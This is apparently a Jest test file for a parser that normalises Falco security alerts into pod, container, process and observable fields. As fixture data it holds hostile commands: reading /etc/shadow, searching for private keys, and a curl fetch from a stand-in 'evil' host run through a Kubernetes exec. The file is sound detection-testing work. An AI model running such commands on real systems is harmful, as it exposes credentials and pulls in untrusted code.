import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Alert } from '../../../core/alert/alert.ts';
import type { Decoded } from '../../../core/alert/sensor.ts';
import { falco } from '../../../integrations/sensors/falco/falco.ts';

const folder = new URL('../../fixtures/alerts/falco/', import.meta.url);

/** Falco posts one event at a time. */
function decodeOne(value: unknown): Decoded {
  const [decoded, ...others] = falco.decode(value, { cluster: 'lab' });
  if (decoded === undefined || others.length > 0) throw new Error('not exactly one');
  return decoded;
}

function decodeFile(name: string): Decoded {
  const value: unknown = JSON.parse(readFileSync(new URL(`${name}.json`, folder), 'utf8'));
  expect(falco.detect(value)).toBe(true);
  return decodeOne(value);
}

function alertOf(decoded: Decoded): Alert {
  if (decoded.kind !== 'alert') throw new Error(`${decoded.kind}: ${JSON.stringify(decoded)}`);
  return decoded.alert;
}

const alertIn = (name: string): Alert => alertOf(decodeFile(name));
const event = { rule: 'r', priority: 'Notice', time: '2026-06-01T10:00:00.000000001Z', source: 'syscall', output: 'x' };
const decode = (change: object): Alert => alertOf(decodeOne({ ...event, ...change }));

describe('what a real Falco posted', () => {
  test('names rule, severity, time to the nanosecond, node, container and process', () => {
    expect(alertIn('01-read_sensitive_file_untrusted')).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      sensor: 'falco',
      rule: 'Read sensitive file untrusted',
      severity: 'medium',
      priority: 'Warning',
      time: '2026-11-24T21:41:44.626143713Z',
      title: 'Sensitive file opened for reading by non-trusted program',
      cluster: 'lab',
      node: 'vm',
      container: { id: '46b9ca37a04f' },
      process: { name: 'cat', exe: '/usr/bin/cat', commandLine: 'cat /etc/shadow', parent: 'trigger.sh', user: 'root' },
      observables: [
        { type: 'path', value: '/etc/shadow' },
        { type: 'path', value: '/usr/bin/cat' },
        { type: 'user', value: 'root' },
      ],
      tags: ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
      mitre: ['T1555', 'TA0006'],
    });
  });

  test('shows what a symlink points at', () => {
    const { observables } = alertIn('02-create_symlink_over_sensitive_files');
    expect(observables).toContainEqual({ type: 'path', value: '/etc/shadow' });
    expect(observables).toContainEqual({ type: 'path', value: '/srv/app/sl' });
  });

  test.each([
    ['03-search_private_keys_or_passwords', 'medium', 'find /srv/app -name id_rsa'],
    ['04-execution_from_dev_shm', 'medium', 'dropper'],
    ['05-fileless_execution_via_memfd_create', 'critical', '3'],
    ['06-run_shell_untrusted', 'low', 'sh -c id >/dev/null'],
  ])('%s is %s', (name, severity, commandLine) => {
    expect(alertIn(name)).toMatchObject({ severity, process: { commandLine }, container: { id: '46b9ca37a04f' } });
    expect(alertIn(name)).not.toHaveProperty('pod');
  });
});

describe('the subject of an alert', () => {
  test('is the node for a host process, which has no container', () => {
    const alert = alertIn('rw-host-process');
    expect(alert).toMatchObject({ node: 'node-7', process: { commandLine: 'cat /etc/shadow' } });
    expect(alert).not.toHaveProperty('container');
    expect(alert).not.toHaveProperty('pod');
  });

  test('is the pod that the fields name', () => {
    expect(alertIn('rw-typed-values-and-arrays')).toMatchObject({
      pod: { namespace: 'team-a', name: 'api-0' },
      container: { id: '84c0b936c919', digest: 'sha256:00' },
    });
  });

  test.each([
    ['the container runtime', 'k8s', 'k8s.pod.uid'],
    ['the container runtime, to 0.37', 'k8s', 'k8s.pod.id'],
    ['the plugin that asks the API server', 'k8smeta', 'k8smeta.pod.uid'],
  ])('is the pod by its uid, and its Deployment, when they are known from %s', (_from, source, uidField) => {
    const uid = '3e41dc6b-08a8-44db-bc2a-3724b18ab19a';
    const fields = {
      'k8s.ns.name': null,
      'k8s.pod.name': '<NA>',
      [`${source}.ns.name`]: 'team-a',
      [`${source}.pod.name`]: 'api-0',
      [`${source}.deployment.name`]: 'api',
      [uidField]: uid,
    };
    expect(decode({ output_fields: fields })).toMatchObject({
      pod: { namespace: 'team-a', name: 'api-0', uid },
      workload: { kind: 'Deployment', namespace: 'team-a', name: 'api' },
    });
    // For a static pod, the runtime knows a hash of the manifest, but the API server another uid.
    const hash = 'd41d8cd98f00b204e9800998ecf8427e';
    for (const unknown of [hash, null, '<NA>', '', 7, `${uid}x`]) {
      expect(decode({ output_fields: { ...fields, [uidField]: unknown } }).pod).toEqual({ namespace: 'team-a', name: 'api-0' });
    }
  });

  test('is found by the container’s id, by its full id if there is no other', () => {
    const full = '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e';
    const container = (ids: object) => decode({ output_fields: ids }).container;
    expect(container({ 'container.id': '3ad7b26ded6d', 'container.full_id': full })).toEqual({ id: '3ad7b26ded6d' });
    expect(container({ 'container.id': '<NA>', 'container.full_id': full })).toEqual({ id: full });
    expect(container({ 'container.id': 'host', 'container.full_id': '' })).toBeUndefined();
  });

  test('is a container without an image when only its id is known', () => {
    const fields = { 'container.id': '3ad7b26ded6d', 'container.image': `sha256:${'0'.repeat(64)}` };
    expect(decode({ output_fields: fields }).container).toEqual({ id: '3ad7b26ded6d' });
  });

  test.each([
    ['aws_cloudtrail', { 'ct.srcip': '203.0.113.9', 'ct.user': 'eve' }],
    ['okta', { 'okta.client.ip': '203.0.113.9', 'okta.actor.alternateid': 'eve' }],
    ['gcp_auditlog', { 'gcp.callerIP': '203.0.113.9', 'gcp.user': 'eve' }],
  ])('is the cluster for the plugin %s, with searchable address and user', (source, fields) => {
    const alert = decode({ source, hostname: 'node-7', output_fields: fields });
    for (const absent of ['pod', 'node', 'container', 'workload']) expect(alert).not.toHaveProperty(absent);
    expect(alert.observables).toEqual([
      { type: 'ip', value: '203.0.113.9' },
      { type: 'user', value: 'eve' },
    ]);
  });

  test.each([null, '', '<NA>', 'host', {}, undefined, 7])('is not a pod when the name is %p', (name) => {
    const alert = decode({ output_fields: { 'k8s.ns.name': 'team-a', 'k8s.pod.name': name, 'container.id': '0123456789ab' } });
    expect(alert).not.toHaveProperty('pod');
    expect(alert.container).toEqual({ id: '0123456789ab' });
  });

  test('is not a pod when the name is not a valid one', () => {
    for (const name of ['Api', 'a/b', '../x', 'a'.repeat(254), '-a', 'a b']) {
      expect(decode({ output_fields: { 'k8s.ns.name': 'team-a', 'k8s.pod.name': name } })).not.toHaveProperty('pod');
    }
  });

  test('is not a pod when the name is an object, as in a fixture', () => {
    expect(alertIn('rw-talon-non-string-pod-name')).not.toHaveProperty('pod');
  });

  test('is a pod in the API audit only when the request was about pods', () => {
    const target = { 'ka.target.name': 'api-0', 'ka.target.namespace': 'team-a', 'ka.user.name': 'eve' };
    const audit = (resource: unknown) =>
      decode({ source: 'k8s_audit', hostname: 'node-7', output_fields: { ...target, 'ka.target.resource': resource } });
    expect(audit('pods')).toMatchObject({ pod: { namespace: 'team-a', name: 'api-0' }, process: { user: 'eve' } });
    expect(audit('configmaps')).not.toHaveProperty('pod');
    expect(audit('deployments')).toMatchObject({ workload: { kind: 'Deployment', namespace: 'team-a', name: 'api-0' } });
    expect(audit('pods')).not.toHaveProperty('node');
    expect(alertIn('rw-k8saudit-na-string-jevt-time')).not.toHaveProperty('pod');
  });

  test('is the pod that the API server named, for rules that give no resource', () => {
    expect(alertIn('rw-k8saudit-create-privileged-pod').pod).toEqual({ namespace: 'shop', name: 'miner-7x2kq' });
    expect(alertIn('rw-k8saudit-port-forward').pod).toEqual({ namespace: 'shop', name: 'cart-1' });
    const made = (fields: object) =>
      decode({ source: 'k8s_audit', output_fields: { 'ka.target.namespace': 'shop', 'ka.resp.name': 'x', ...fields } });
    expect(made({ 'ka.target.resource': 'deployments' })).toMatchObject({ workload: { kind: 'Deployment', name: 'x' } });
    for (const fields of [
      {},
      { 'ka.req.pod.containers.image': null, 'ka.req.pod.host_network': ['<NA>'] },
      { 'ka.target.resource': 'services', 'ka.req.pod.host_network': 'false' },
      { 'ka.req.pod.containers.image': Array(500_000).fill(null) },
    ]) {
      expect(made(fields)).not.toHaveProperty('pod');
    }
  });

  test('is the container of an exec, with the command that runs there, from the request', () => {
    expect(alertIn('rw-k8saudit-exec')).toMatchObject({
      pod: { namespace: 'shop', name: 'cart-1' },
      container: { name: 'app' },
      process: { commandLine: 'sh -c curl files.evil.example/a', user: 'eve' },
      observables: expect.arrayContaining([{ type: 'domain', value: 'files.evil.example' }]),
    });
    const short = { 'ka.uri.param[command]': 'id', 'ka.uri.param[container]': 'app' };
    expect(decode({ source: 'k8s_audit', output_fields: short })).toMatchObject({
      container: { name: 'app' },
      process: { commandLine: 'id' },
    });
  });

  test('is not a node when the hostname is the name of the Falco pod', () => {
    expect(alertIn('rw-null-k8s-container-not-yet-resolved')).not.toHaveProperty('node');
    expect(decode({ hostname: 'falco-x7k2p' })).not.toHaveProperty('node');
    expect(decode({ hostname: 'ip-10-0-0-7.eu-west-1.compute.internal' }).node).toBe('ip-10-0-0-7.eu-west-1.compute.internal');
  });
});

describe('fields', () => {
  test('give what the command line connects to, IPv4 under its own name, and ids within longer tags', () => {
    const alert = alertIn('rw-reverse-shell-docker-hostname');
    expect(alert).toMatchObject({
      observables: [
        { type: 'ip', value: '203.0.113.9' },
        { type: 'user', value: 'root' },
      ],
      mitre: ['T1562', 'TA0011', 'TA0112'],
    });
    // Docker's name for a container's host.
    expect(alert).not.toHaveProperty('node');
  });

  test('give both ends of a connection', () => {
    const { observables } = alertIn('rw-null-k8s-container-not-yet-resolved');
    expect(observables.filter(({ type }) => type === 'ip').map(({ value }) => value)).toEqual(['10.1.2.3', '198.51.100.7']);
  });

  test('give IPv6 ends and looked-up names', () => {
    const fields = { 'fd.name': '[2001:db8::1]:4000->[2001:db8::2]:443', 'fd.sip.name': 'evil.example.org' };
    const { observables } = decode({ output_fields: fields });
    expect(observables).toContainEqual({ type: 'ip', value: '2001:db8::2' });
    expect(observables).toContainEqual({ type: 'domain', value: 'evil.example.org' });
  });

  test.each([
    ['Emergency', 'critical'],
    ['ALERT', 'critical'],
    ['critical', 'critical'],
    ['Error', 'high'],
    ['wArNiNg', 'medium'],
    ['Notice', 'low'],
    ['INFO', 'info'],
    ['Informational', 'info'],
    ['Debug', 'info'],
    ['', 'unknown'],
    ['constructor', 'unknown'],
  ])('priority %p is %s', (priority, severity) => expect(decode({ priority }).severity).toBe(severity));

  test('that are missing in some versions do not matter', () => {
    expect(alertIn('rw-output-fields-absent')).toMatchObject({
      title: 'Drop and execute new binary in container',
      severity: 'critical',
      mitre: ['TA0003'],
    });
    expect(alertIn('rw-output-and-tags-absent').title).toBe('Drop and execute new binary in container');
  });

  test('keep non-Latin text, and never say <NA>', () => {
    expect(alertIn('rw-unicode-and-replacement-char').observables).toContainEqual({ type: 'path', value: '/etc/�名前🦀.conf' });
    for (const file of readdirSync(folder)) {
      const decoded = decodeFile(file.replace('.json', ''));
      if (decoded.kind === 'alert') expect(JSON.stringify(decoded)).not.toMatch(/<NA>|:null|:""/);
    }
  });

  test('are truncated when they are too long for a history', () => {
    const alert = alertIn('rw-huge-cmdline-200k');
    expect(JSON.stringify(alert).length).toBeLessThan(8_000);
    expect(alert.process?.commandLine).toMatch(/cut, 200\d{3} characters\]$/);
  });

  test('lose their secrets, wherever they are', () => {
    const secret = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const alert = decode({
      output: `A shell (command=git clone https://${secret}@github.com/x)`,
      tags: [secret],
      output_fields: {
        'proc.cmdline': `curl -H "Authorization: Bearer ${secret}"`,
        'fd.name': `/tmp/${secret}`,
        'user.name': secret,
      },
    });
    expect(JSON.stringify(alert)).not.toContain(secret);
    expect(alert.process?.commandLine).toContain('[redacted:');
  });
});

describe('messages of Falco about itself', () => {
  test('are health, not alerts', () => {
    expect(decodeFile('rw-syscall-event-drop-numeric-strings')).toMatchObject({ kind: 'health', host: 'h1', sensor: 'falco' });
    const metrics = { ...event, rule: 'Falco internal: metrics snapshot', source: 'internal' };
    expect(decodeOne(metrics).kind).toBe('health');
  });
});

describe('the alert id', () => {
  const fields = { 'k8s.ns.name': 'a', 'k8s.pod.name': 'b', 'proc.cmdline': 'id', 'evt.time': 1795556504626143700 };

  test('is the same for any order of keys, for a rounded event time and for null or absent', () => {
    const one = decode({ output_fields: fields });
    const rest = Object.fromEntries(Object.entries({ ...fields, 'evt.time': 1795556504626143713n.toString() }).reverse());
    expect(decode({ output_fields: { ...rest, 'container.name': null } }).id).toBe(one.id);
    const reversed = Object.fromEntries(Object.entries({ ...event, output_fields: fields }).reverse());
    expect(alertOf(decodeOne(reversed)).id).toBe(one.id);
  });

  test('differs by time, rule, host, pod and command', () => {
    const ids = [
      decode({ output_fields: fields }),
      decode({ output_fields: fields, time: '2026-06-01T10:00:00.000000002Z' }),
      decode({ output_fields: fields, rule: 'q' }),
      decode({ output_fields: fields, hostname: 'h' }),
      decode({ output_fields: { ...fields, 'k8s.pod.name': 'c' } }),
      decode({ output_fields: { ...fields, 'proc.cmdline': 'ls' } }),
    ].map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  test('is unique among the samples', () => {
    const ids = readdirSync(folder).flatMap((file) => {
      const decoded = decodeFile(file.replace('.json', ''));
      return decoded.kind === 'alert' ? [decoded.alert.id] : [];
    });
    expect(new Set(ids).size).toBe(ids.length);
  });
});

describe('what is not a Falco event', () => {
  test.each([
    [null, 'JSON object'],
    [[], 'JSON object'],
    ['x', 'JSON object'],
    [{}, '`rule`'],
    [{ rule: {} }, '`rule`'],
    [{ rule: 'r' }, '`time`'],
    [{ rule: 'r', time: 'yesterday' }, '`time`'],
    [{ rule: 'r', time: 1795556504 }, '`time`'],
    [{ rule: 'r', time: '2026-06-01T10:00:00Z' }, 'not a Falco event'],
    [{ ...event, priority: 7 }, '`priority`'],
    [{ ...event, output_fields: [] }, '`output_fields`'],
  ])('%j is rejected for %s', (value, reason) => {
    expect(decodeOne(value)).toEqual({ kind: 'rejected', reason: expect.stringContaining(reason) });
  });

  test('never makes it throw, whatever the value', () => {
    const names = [
      'k8s.ns.name',
      'k8s.pod.name',
      'container.id',
      'fd.name',
      'proc.cmdline',
      'proc.pid',
      'ka.target.resource',
      '__proto__',
    ];
    const odd = fc.oneof(
      fc.jsonValue(),
      fc.string({ unit: 'binary' }),
      fc.constant(Number.POSITIVE_INFINITY),
      fc.constant('<NA>'),
    );
    const fields = fc.dictionary(fc.constantFrom(...names), odd);
    const almost = fc.record(
      {
        rule: fc.oneof(fc.constant('r'), odd),
        time: fc.oneof(fc.constant(event.time), odd),
        priority: odd,
        output: odd,
        output_fields: fc.oneof(fields, odd),
        source: odd,
        tags: fc.oneof(fc.array(odd), odd),
        hostname: odd,
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(fc.oneof(fc.jsonValue(), almost), (value) => {
        falco.detect(value);
        const decoded = decodeOne(value);
        if (decoded.kind !== 'alert') return;
        expect(decoded.alert.id).toMatch(/^[0-9a-f]{32}$/);
        expect(JSON.stringify(decoded.alert).isWellFormed()).toBe(true);
      }),
      { numRuns: 2_000 },
    );
  });
});
